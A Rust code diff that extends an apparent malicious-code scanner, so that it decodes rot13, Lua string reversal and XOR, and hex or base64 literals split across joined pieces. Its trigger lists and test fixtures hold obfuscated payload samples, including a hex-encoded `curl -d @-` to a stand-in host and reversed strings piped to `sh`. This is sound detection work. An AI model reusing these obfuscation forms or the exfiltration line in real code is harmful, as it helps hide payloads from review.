@@ -121,8 +121,9 @@ pub(super) const ENTITIES: Kinds = 1 << 14;
 pub(super) const PERCENT: Kinds = 1 << 15;
 pub(super) const BATCH_SUBSTRINGS: Kinds = 1 << 16;
 pub(super) const ANSI: Kinds = 1 << 17;
+pub(super) const ROT13: Kinds = 1 << 18;
 
-const KIND_NAMES: [(Kinds, &str); 18] = [
+const KIND_NAMES: [(Kinds, &str); 19] = [
     (HEX_ESCAPES, "hex escapes"),
     (OCTAL_ESCAPES, "octal escapes"),
     (UNICODE_ESCAPES, "unicode escapes"),
@@ -141,6 +142,7 @@ const KIND_NAMES: [(Kinds, &str); 18] = [
     (PERCENT, "percent-encoding"),
     (BATCH_SUBSTRINGS, "a batch file's substrings (%v:~n,1%)"),
     (ANSI, "terminal escape sequences (removed)"),
+    (ROT13, "rot13"),
 ];
 
 /// "decoded from hex escapes, joined strings".
@@ -284,6 +286,10 @@ const TRIGGER_WORDS: &[(&str, Trigger)] = &[
     ("rev<<<", Trigger::Rev),
     ("[::-1]", Trigger::Rev),
     (".reverse()", Trigger::Rev),
+    ("string.reverse", Trigger::Rev),
+    (":reverse()", Trigger::Rev),
+    ("rot13", Trigger::Rev),
+    ("rot_13", Trigger::Rev),
     ("base64", Trigger::Base64),
     ("b64decode", Trigger::Base64),
     ("atob", Trigger::Base64),
@@ -296,6 +302,8 @@ const TRIGGER_WORDS: &[(&str, Trigger)] = &[
     ("xxd", Trigger::Hex),
     ("'hex'", Trigger::Hex),
     ("\"hex\"", Trigger::Hex),
+    ("\"h*\"", Trigger::Hex),
+    ("'h*'", Trigger::Hex),
     (":~", Trigger::BatchSubstrings),
 ];
 
@@ -1191,7 +1199,7 @@ enum CodeOp {
 /// at most four kinds.
 fn code_ops(text: &str) -> Vec<CodeOp> {
     static OP: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(r"(?i)(?:\[char\]|(?-u:\b)chr|fromcharcode|string\.char)[ \t]*\(?[ \t]*\(?[ \t]*(?:\$_|\$?[A-Za-z_][A-Za-z0-9_]*(?:\[[A-Za-z0-9_]+\])?)[ \t]*(?P<op>-bxor|\^|-|\+)[ \t]*(?P<n>0x[0-9a-f]{1,2}|[0-9]{1,3}|[A-Za-z_][A-Za-z0-9_]*)[ \t]*\)|(?-u:\b)[A-Za-z_][A-Za-z0-9_]*(?:\[[A-Za-z0-9_]+\])?[ \t]*(?P<xor>\^)[ \t]*(?P<k>0x[0-9a-f]{1,2}|[0-9]{1,3}|[A-Za-z_][A-Za-z0-9_]*)(?-u:\b)")
+        Regex::new(r"(?i)(?:\[char\]|(?-u:\b)chr|fromcharcode|string\.char)[ \t]*\(?[ \t]*\(?[ \t]*(?:\$_|\$?[A-Za-z_][A-Za-z0-9_]*(?:\[[A-Za-z0-9_]+\])?)[ \t]*(?P<op>-bxor|\^|~|-|\+)[ \t]*(?P<n>0x[0-9a-f]{1,2}|[0-9]{1,3}|[A-Za-z_][A-Za-z0-9_]*)[ \t]*\)|(?-u:\b)[A-Za-z_][A-Za-z0-9_]*(?:\[[A-Za-z0-9_]+\])?[ \t]*(?P<xor>\^)[ \t]*(?P<k>0x[0-9a-f]{1,2}|[0-9]{1,3}|[A-Za-z_][A-Za-z0-9_]*)(?-u:\b)")
             .unwrap()
     });
     let mut ops = Vec::new();
@@ -1267,7 +1275,17 @@ fn codes_text(codes: &[u32], op: Option<CodeOp>) -> Option<String> {
 /// `'…' | rev`, `rev <<< '…'`, `"…"[::-1]`, `"…".split("").reverse().join("")`.
 static REV: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(
-        r#"(?:'([^'\n]{4,})'|"([^"\n]{4,})")[ \t]*(?:\|[ \t]*rev(?-u:\b)|\[::-1\]|\.split\((?:""|'')\)\.reverse\(\))|(?-u:\b)rev[ \t]*<<<[ \t]*(?:'([^'\n]{4,})'|"([^"\n]{4,})")"#,
+        r#"(?:'([^'\n]{4,})'|"([^"\n]{4,})")[ \t]*\)?(?:\|[ \t]*rev(?-u:\b)|\[::-1\]|\.split\((?:""|'')\)\.reverse\(\)|:reverse\(\))|(?-u:\b)(?:rev[ \t]*<<<|string\.reverse[ \t]*\()[ \t]*(?:'([^'\n]{4,})'|"([^"\n]{4,})")"#,
+    )
+    .unwrap()
+});
+
+/// A string put through rot13 where it is written: PHP's
+/// `str_rot13('…')`, a `rot13("…")` helper, Python's `codecs.decode('…',
+/// 'rot13')`.
+static ROT13_CALL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?i)(?:(?-u:\b)(?:str_rot13|rot_?13)[ \t]*\([ \t]*(?:'([^'\n]{4,})'|"([^"\n]{4,})")|(?-u:\b)(?:de|en)code[ \t]*\([ \t]*(?:'([^'\n]{4,})'|"([^"\n]{4,})")[ \t]*,[ \t]*['"]rot_?13['"])"#,
     )
     .unwrap()
 });
@@ -1287,6 +1305,11 @@ static NAME_REVERSED: LazyLock<Regex> = LazyLock::new(|| {
 });
 
 fn reversed(text: &str, budget: &mut Budget, out: &mut Vec<Decoded>) {
+    for c in ROT13_CALL.captures_iter(text) {
+        let Some(m) = c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)).or_else(|| c.get(4)) else { continue };
+        let Some(all) = c.get(0) else { continue };
+        push(out, budget, all.range(), crate::text::rot13(m.as_str()), ROT13, 1);
+    }
     for c in REV.captures_iter(text) {
         let Some(m) = c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)).or_else(|| c.get(4)) else { continue };
         let Some(all) = c.get(0) else { continue };
@@ -1318,12 +1341,23 @@ static ENCODED: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/_-]{
 /// the result is itself a literal of either kind, kept when the last layer is
 /// mostly printable text.
 fn encoded_literals(text: &str, t: &Triggers, budget: &mut Budget, out: &mut Vec<Decoded>) {
-    for m in ENCODED.find_iter(text) {
-        let s = m.as_str();
+    // A literal cut into quoted pieces joined by `.`, `+`, `..` or nothing
+    // (Perl's `"2321…" .\n "6963…"`, Python's adjacent strings): the
+    // pieces read as one, over the whole chain.
+    static CHAIN: LazyLock<Regex> = LazyLock::new(|| {
+        let piece = r#"(?:"[A-Za-z0-9+/=_-]{8,}"|'[A-Za-z0-9+/=_-]{8,}')"#;
+        Regex::new(&format!(r"{piece}(?:[ \t\r\n]*(?:\.\.|\.|\+)?[ \t\r\n]*{piece})+")).unwrap()
+    });
+    let chains = CHAIN.find_iter(text).take(64).map(|m| {
+        let joined: String = m.as_str().split(['"', '\'']).skip(1).step_by(2).collect();
+        (m.range(), joined)
+    });
+    let singles = ENCODED.find_iter(text).map(|m| (m.range(), m.as_str().to_owned()));
+    for (range, s) in chains.chain(singles) {
         if s.len() < MIN_BASE64.min(MIN_HEX) {
             continue;
         }
-        let mut current = s.to_owned();
+        let mut current = s;
         let mut kinds = 0;
         let mut layers = 0;
         let mut last_text: Option<String> = None;
@@ -1349,7 +1383,7 @@ fn encoded_literals(text: &str, t: &Triggers, budget: &mut Budget, out: &mut Vec
         }
         if let Some(d) = last_text {
             if d.trim().len() >= 8 {
-                push(out, budget, m.range(), d, kinds, layers);
+                push(out, budget, range, d, kinds, layers);
             }
         }
     }
@@ -1586,6 +1620,11 @@ mod tests {
         // a text cut in two tables is read whole too.
         let lua = "local a = { 104,102,107,114,35,107,108 }\nfor i = 1, #a do out[i] = string.char(a[i] - 3) end\n";
         assert!(texts(lua).contains(&"echo hi".to_owned()), "{:?}", texts(lua));
+        // Lua 5.3's XOR is `~`.
+        let codes: Vec<String> = "echo hi".bytes().map(|b| (b ^ 0x5a).to_string()).collect();
+        let lua_xor =
+            format!("local p = {{ {} }}\nfor i = 1, #p do out[i] = string.char(p[i] ~ 0x5A) end\n", codes.join(","));
+        assert!(texts(&lua_xor).contains(&"echo hi".to_owned()), "{:?}", texts(&lua_xor));
         let cut = "local a = { 104,102,107,114,35,107 }\nlocal b = { 108,35,100,113,103,35 }\nstring.char(t[i] - 3)\n";
         assert!(texts(cut).contains(&"echo hi and ".to_owned()), "{:?}", texts(cut));
     }
@@ -1616,6 +1655,16 @@ mod tests {
         assert!(texts("W = \"hsab | hs.x\"\nprint(W)\n").is_empty(), "not reversed anywhere");
         assert_eq!(texts("echo 'ih ohce' | rev | sh\n"), vec!["echo hi"]);
         assert_eq!(texts("x = \"ih ohce\"[::-1]\n"), vec!["echo hi"]);
+        // Lua: `string.reverse("…")` and `("…"):reverse()`.
+        assert_eq!(texts("os.execute(string.reverse('ih ohce'))\n"), vec!["echo hi"]);
+        assert_eq!(texts("os.execute((\"ih ohce\"):reverse())\n"), vec!["echo hi"]);
+    }
+
+    #[test]
+    fn rot13_strings_are_read_as_they_run() {
+        assert_eq!(texts("$f = str_rot13('furyy_rkrp');\n"), vec!["shell_exec"]);
+        assert_eq!(texts("exec(codecs.decode(\"rpub uv\", 'rot_13'))\n"), vec!["echo hi"]);
+        assert!(texts("$f = strrev('furyy_rkrp');\n").is_empty(), "not rot13");
     }
 
     #[test]
@@ -1641,6 +1690,13 @@ mod tests {
     fn hex_literals_are_decoded_when_the_file_decodes_hex() {
         let d = texts("bytes.fromhex('6563686f2068656c6c6f')\n");
         assert_eq!(d, vec!["echo hello"]);
+        // Perl's `pack("H*", …)` of pieces joined over lines: read whole.
+        let hex: String = "curl -d @- https://x.invalid/p".bytes().map(|b| format!("{b:02x}")).collect();
+        let perl = format!("my $s = pack(\"H*\",\n    \"{}\" .\n    \"{}\");\n", &hex[..20], &hex[20..]);
+        assert!(texts(&perl).contains(&"curl -d @- https://x.invalid/p".to_owned()), "{:?}", texts(&perl));
+        // Python's adjacent strings.
+        let py = format!("u = bytes.fromhex(\n    \"{}\"\n    \"{}\"\n).decode()\n", &hex[..24], &hex[24..]);
+        assert!(texts(&py).contains(&"curl -d @- https://x.invalid/p".to_owned()), "{:?}", texts(&py));
     }
 
     #[test]
